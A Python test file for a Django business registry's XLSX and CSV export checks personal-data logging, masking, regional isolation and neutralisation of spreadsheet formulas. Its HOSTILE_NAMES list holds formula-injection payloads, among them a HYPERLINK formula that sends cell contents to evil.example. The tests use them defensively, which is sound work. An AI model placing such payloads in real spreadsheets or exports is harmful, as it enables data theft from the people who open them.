import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from conftest import make_user
from kriya.accounts.models import PersonalDataExport, Role
from kriya.lib.xlsx import RUPIAH_FORMAT
from kriya.regions.models import Village
from kriya.registry.models import Artisan, Business
from kriya.tests.spreadsheets import formula_free_workbook, safe_csv_rows


def _register(village):
    owner = Artisan.objects.create(
        name="Ni Luh Sari",
        village=village,
        nik="5103044512900003",
        phone="+6281234567890",
        address="Banjar Kaja",
    )
    Business.objects.create(
        name="Tenun Endek Sari",
        owner=owner,
        village=village,
        phone="+6281234567890",
        address="Banjar Kaja",
        nib="1234567890123",
    )
    gianyar = Village.objects.get(code="51.04.01.2005")
    Business.objects.create(name="Perak Celuk", village=gianyar)


def test_the_secretariat_exports_the_filtered_list_with_personal_data_and_it_is_logged(
    client, badung_secretary, badung_village
):
    _register(badung_village)
    client.force_login(badung_secretary)
    response = client.get("/admin/registry/business/export/xlsx/", {"q": "endek"})
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.values)
    assert len(rows) == 2 and "Tenun Endek Sari" in rows[1]
    assert "5103044512900003" in rows[1] and "+6281234567890" in rows[1]
    log = PersonalDataExport.objects.get()
    assert (log.user, log.rows, log.file_format, log.filters) == (
        badung_secretary,
        1,
        "xlsx",
        {"q": "endek"},
    )


def test_the_board_gets_masked_personal_data_and_no_log(client, badung, badung_village):
    _register(badung_village)
    client.force_login(make_user("pengurus", badung, Role.BOARD))
    response = client.get("/admin/registry/business/export/csv/")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][0] == "Tenun Endek Sari"
    assert "5103044512900003" not in text and "+6281234567890" not in text
    assert "5103••••••••0003" in text
    assert not PersonalDataExport.objects.exists()
    page = client.get("/admin/registry/business/").text
    assert "+6281234567890" not in page


def test_a_sibling_exports_none_of_badung(client, gianyar_secretary, badung_village):
    _register(badung_village)
    client.force_login(gianyar_secretary)
    rows = list(
        load_workbook(
            io.BytesIO(client.get("/admin/registry/business/export/xlsx/").content)
        ).active.values
    )
    assert [row[0] for row in rows[1:]] == ["Perak Celuk"]


def test_an_unknown_format_is_a_404(client, badung_secretary):
    client.force_login(badung_secretary)
    assert client.get("/admin/registry/business/export/pdf/").status_code == 404


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\t=1",
    "   =1",
    "\r=1+1",
    'Tenun "Sari"; Jaya, Bali',
]


def _hostile_register(village) -> None:
    for index, name in enumerate(HOSTILE_NAMES):
        Business.objects.create(
            name=name,
            village=village,
            address="=1+1" if index == 0 else "Banjar Kaja; Jl. Raya",
            phone="+62 812-3456-7890" if index % 2 else "+6281234567890",
            workers=12,
            yearly_turnover=Decimal("1250000"),
            year_founded=2015,
        )


def _by_name(rows: list, header: list) -> dict:
    return {row[header.index("Business name")]: dict(zip(header, row, strict=True)) for row in rows}


def test_hostile_names_come_out_of_the_xlsx_as_text_and_numbers_as_numbers(
    client, badung_secretary, badung_village
):
    _hostile_register(badung_village)
    client.force_login(badung_secretary)
    response = client.get("/en/admin/registry/business/export/xlsx/")
    sheet = formula_free_workbook(response.content).active
    header, *rows = [list(row) for row in sheet.iter_rows()]
    header = [cell.value for cell in header]
    assert len(rows) == len(HOSTILE_NAMES)
    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in rows}
    # Every name exactly as typed (XML reads a carriage return back as a line feed).
    assert sorted(cells) == sorted(name.replace("\r", "\n") for name in HOSTILE_NAMES)
    for name, row in cells.items():
        assert row["Business name"].data_type == "s"
        assert row["Business name"].quotePrefix is (name != HOSTILE_NAMES[-1])
        assert row["Phone / WhatsApp"].data_type == "s"
        assert row["Phone / WhatsApp"].value in {"+62 812-3456-7890", "+6281234567890"}
        assert (row["Workers"].value, row["Workers"].data_type) == (12, "n")
        assert row["Yearly turnover (Rp)"].value == 1250000
        assert row["Yearly turnover (Rp)"].number_format == RUPIAH_FORMAT
        assert row["Year founded"].value == 2015
    assert cells[HOSTILE_NAMES[0]]["Address"].value == "=1+1"


def test_hostile_names_come_out_of_the_csv_as_text_and_phones_readable(
    client, badung_secretary, badung_village
):
    _hostile_register(badung_village)
    client.force_login(badung_secretary)
    response = client.get("/en/admin/registry/business/export/csv/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = safe_csv_rows(response.content)
    cells = _by_name(rows, header)
    assert sorted(cells) == sorted(
        ["'" + name for name in HOSTILE_NAMES[:-1]] + ['Tenun "Sari"; Jaya, Bali']
    )
    for row in cells.values():
        assert row["Phone / WhatsApp"] == "0812-3456-7890"  # both ways of writing it
        assert (row["Workers"], row["Yearly turnover (Rp)"], row["Year founded"]) == (
            "12",
            "1250000",
            "2015",
        )
        assert row["Village code"] == badung_village.code
    assert cells["'" + HOSTILE_NAMES[0]]["Address"] == "'=1+1"
    assert cells['Tenun "Sari"; Jaya, Bali']["Address"] == "Banjar Kaja; Jl. Raya"


def test_masked_phones_in_the_csv_are_text_that_runs_nothing(client, badung, badung_village):
    _hostile_register(badung_village)
    client.force_login(make_user("pengurus", badung, Role.BOARD))
    header, *rows = safe_csv_rows(client.get("/en/admin/registry/business/export/csv/").content)
    phones = {row[header.index("Phone / WhatsApp")] for row in rows}
    assert phones == {"'+62 •••••••••7890", "'+628••••••7890"}


def test_a_sibling_gets_none_of_the_hostile_rows(client, gianyar_secretary, badung_village):
    _hostile_register(badung_village)
    client.force_login(gianyar_secretary)
    header, *rows = safe_csv_rows(client.get("/admin/registry/business/export/csv/").content)
    assert rows == []
    book = formula_free_workbook(client.get("/admin/registry/business/export/xlsx/").content)
    assert book.active.max_row == 1
